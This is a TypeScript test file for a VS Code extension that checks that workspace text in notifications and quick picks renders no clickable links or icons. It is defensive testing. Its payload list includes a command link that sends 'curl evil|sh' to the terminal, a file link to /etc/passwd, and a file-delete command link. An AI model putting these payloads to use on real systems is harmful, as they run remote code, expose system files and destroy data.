// Issue 9, item 1 (the pure half): workspace text put into a notification or a quick pick is shown
// as text. Checked against the patterns VS Code itself uses (the real-host tests check the rest).
import * as assert from 'node:assert/strict';
import { plainLabelText, plainNotificationText } from '../../src/extension/util/plainText';

/** VS Code's notification link pattern (vs/base/common/linkedText.ts, as shipped in code-server 4.139.1). */
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
/** VS Code's label icon pattern (vs/base/browser/ui/iconLabel/iconLabels.ts); group 1 is the escaping backslash. */
const VSCODE_ICON = /(\\)?\$\(([A-Za-z0-9-]+(?:~[A-Za-z]+)?)\)/g;

const linkPayloads = [
  '[Show Log](command:workbench.action.terminal.new)',
  '[Show Log](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  'release-[Open](https://evil.example/x).crime.txt',
  '[a](file:///etc/passwd "Open the file")',
  '[[nested](command:a)](command:b)',
  'id "urn:uuid:[Fix](command:workbench.action.files.delete)"',
];

const renderedLinks = (text: string) => [...text.matchAll(VSCODE_LINK)].length;
const renderedIcons = (text: string) => [...text.matchAll(VSCODE_ICON)].filter((m) => !m[1]).length;

describe('plain text for notifications and quick picks', () => {
  it('leaves no link VS Code would render in a notification, whatever the payload', () => {
    for (const payload of linkPayloads) {
      assert.ok(renderedLinks(payload) > 0, `the payload is a live link as it is: ${payload}`);
      const message = `Crime Annotator did not use .crime-annotator/lexicon.json: organisations[0].${payload}: is not a known property.`;
      const plain = plainNotificationText(message);
      assert.equal(renderedLinks(plain), 0, plain);
      assert.equal(plain.replace(/\u2060/g, ''), message, 'the text reads exactly as before, only an invisible joiner added');
    }
  });

  it('leaves a link split over two pieces of workspace text unrenderable too', () => {
    const message = `${'[Show Log]'}${'(command:workbench.action.terminal.new)'}`;
    assert.equal(renderedLinks(plainNotificationText(message)), 0);
  });

  it('leaves ordinary text alone', () => {
    for (const text of ['Kent Police (KP) made 41 arrests [sic].', 'a](b', 'no brackets at all']) {
      assert.equal(plainNotificationText(text).replace(/\u2060/g, ''), text);
    }
    assert.equal(plainNotificationText('Kent Police (KP) made 41 arrests [sic].'), 'Kent Police (KP) made 41 arrests [sic].');
  });

  it('escapes codicons in quick-pick text so VS Code draws none of them, and shows them as written', () => {
    for (const text of ['$(pass) all good.crime.txt', 'a $(check~spin) b $(error)', '$(pass)$(pass)']) {
      assert.ok(renderedIcons(text) > 0);
      const plain = plainLabelText(text);
      assert.equal(renderedIcons(plain), 0, plain);
      // What VS Code shows for an escaped icon: the text without the backslash.
      assert.equal(
        plain.replace(VSCODE_ICON, (_m, escaped, name) => (escaped ? `$(${name})` : '<icon>')),
        text,
      );
    }
    assert.equal(plainLabelText('costs $(5) or $ (x)'), 'costs $(5) or $ (x)'.replace('$(5)', '\\$(5)'), 'only what VS Code would draw is touched');
    assert.equal(plainLabelText('already \\$(pass) escaped'), 'already \\$(pass) escaped');
  });
});
